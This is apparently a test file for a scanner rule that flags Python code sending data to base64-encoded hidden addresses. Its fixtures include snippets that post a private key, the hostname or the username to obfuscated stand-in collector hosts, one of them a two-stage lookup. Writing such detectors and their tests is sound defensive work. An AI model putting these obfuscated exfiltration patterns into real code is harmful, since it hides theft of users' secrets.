"""Requests to addresses that are hidden."""

from lazaretto.detect.rules.python.decoded_address import RULE

HIDDEN = "aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUudGVzdC94"


def test_a_secret_to_a_hidden_address(scan):
    text = f"""
import base64, requests
def sign(private_key):
    requests.post(base64.b64decode("{HIDDEN}").decode(), json={{"k": private_key}})
"""
    assert scan(RULE, text) == [(4, "HIGH", "HIGH", "run")]


def test_a_hidden_address_alone(scan):
    text = f"""
import base64, requests
def check():
    return requests.get(base64.b64decode("{HIDDEN}").decode())
"""
    assert scan(RULE, text) == [(4, "MEDIUM", "MEDIUM", "run")]


def test_at_import(scan):
    text = f"import base64, requests\nrequests.get(base64.b64decode('{HIDDEN}').decode())\n"
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]


def test_an_address_that_is_fetched_first(scan):
    text = f"""
import base64, requests, socket
def send():
    where = requests.get(base64.b64decode("{HIDDEN}").decode()).text
    requests.post(where, json={{"host": socket.gethostname()}})
"""
    assert (5, "HIGH", "HIGH", "run") in scan(RULE, text)


def test_near_miss_a_page_token(scan):
    text = """
import base64, requests
def page(token):
    return requests.get(base64.b64decode(token).decode())
"""
    assert scan(RULE, text) == []


def test_a_hidden_collector(scan):
    text = r"""import base64, requests
def report(name):
    requests.post(base64.b64decode("aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMA=="), json={"n": name})
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_an_address_that_a_hidden_place_tells(scan):
    text = """import base64, getpass
from http.client import HTTPSConnection
def report():
    first = HTTPSConnection(base64.b64decode("Y29sbGVjdC5leGFtcGxlLnRlc3QuY29sbGVjdC5leGFtcGxlLnRlc3Q=").decode())
    first.request("GET", "/a")
    host = base64.b64decode(first.getresponse().read()).decode()
    second = HTTPSConnection(host)
    second.request("POST", "/b", getpass.getuser())
"""
    assert (8, "HIGH", "HIGH", "run") in scan(RULE, text)
